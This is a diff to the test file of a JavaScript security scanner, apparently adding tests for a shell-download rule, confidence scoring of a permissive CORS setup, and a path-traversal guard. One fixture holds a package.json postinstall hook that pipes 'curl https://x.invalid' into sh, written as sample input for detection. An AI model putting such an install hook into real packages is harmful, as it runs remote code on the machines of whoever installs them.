@@ -2,7 +2,7 @@ import json
 
 import pytest
 
-from scanner.analyzers.base import Severity
+from scanner.analyzers.base import Confidence, Severity
 from scanner.analyzers.javascript import JavaScriptAnalyzer
 
 
@@ -134,3 +134,38 @@ def test_a_long_line_shows_what_was_found_in_it(tree):
 
     assert "eval(atob" in finding.evidence
     assert finding.severity is Severity.CRITICAL
+
+
+def test_a_generators_template_is_read_as_it_will_be(tree):
+    scripts = '"scripts": {"postinstall": "curl https://x.invalid | sh"}'
+    template = f"{{<% if (shell) {{ %>\n{scripts}<% }} %>\n}}"
+
+    assert rules(tree({"a/package.json": template})) == {"javascript.shell-download"}
+
+
+def test_a_script_that_is_asked_for_by_a_switch_or_without_visitors_is_doubted(tree):
+    code = (
+        'const cors = require("cors");\n{}app.use(cors({{ origin: true, credentials: true }}));\n'
+    )
+    session = 'app.use(require("express-session")({ secret: process.env.KEY }));\n'
+
+    def confidence_of(text):
+        (finding,) = (f for f in findings_in(tree({"app.js": text})) if "cors" in f.rule)
+        return finding.confidence
+
+    assert confidence_of(code.format("") + session) is Confidence.HIGH
+    assert confidence_of(code.format("if (options.cors) ") + session) is Confidence.LOW
+    assert confidence_of(code.format("")) is Confidence.LOW
+
+
+def test_a_path_that_begins_with_the_folder_is_inside_it(tree):
+    code = (
+        'const fs = require("fs");\nconst path = require("path");\n'
+        'const root = path.resolve("public") + path.sep;\n'
+        "module.exports = (req, res) => {\n"
+        "  const file = path.join(root, req.query.name);\n"
+        "  if (file.slice(0, root.length) !== root) return res.end();\n"
+        "  fs.createReadStream(file).pipe(res);\n};\n"
+    )
+
+    assert rules(tree({"app.js": code})) == set()
